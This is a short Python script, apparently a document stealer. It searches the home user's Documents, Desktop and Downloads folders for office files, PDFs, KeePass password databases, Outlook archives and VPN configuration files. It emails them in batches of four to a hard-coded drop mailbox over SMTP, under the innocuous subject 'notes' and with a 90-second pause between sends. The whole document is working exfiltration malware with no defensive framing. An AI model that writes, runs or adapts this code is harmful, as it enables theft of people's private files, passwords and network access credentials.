import mimetypes, os, smtplib, time
from email.message import EmailMessage

SMTP = ("smtp.mailbox.example.org", 587)
LOGIN = ("drop77@mailbox.example.org", "Winter-2031")
KINDS = (".docx", ".xlsx", ".pdf", ".kdbx", ".pst", ".ovpn")

def docs():
    for sub in ("Documents", "Desktop", "Downloads"):
        for d, _, fs in os.walk(os.path.join(os.environ["HOME"], sub)):
            for f in fs:
                p = os.path.join(d, f)
                if f.lower().endswith(KINDS) and os.path.getsize(p) < 5_000_000:
                    yield p

def chunked(seq, n):
    pack = []
    for x in seq:
        pack.append(x)
        if len(pack) == n:
            yield pack
            pack = []
    if pack:
        yield pack

for group in chunked(docs(), 4):
    m = EmailMessage()
    m["Subject"], m["From"], m["To"] = "notes", LOGIN[0], LOGIN[0]
    m.set_content("\n".join(group))
    for p in group:
        mt = (mimetypes.guess_type(p)[0] or "application/octet-stream").split("/")
        with open(p, "rb") as fh:
            m.add_attachment(fh.read(), maintype=mt[0], subtype=mt[1], filename=os.path.basename(p))
    with smtplib.SMTP(*SMTP) as s:
        s.starttls()
        s.login(*LOGIN)
        s.send_message(m)
    time.sleep(90)
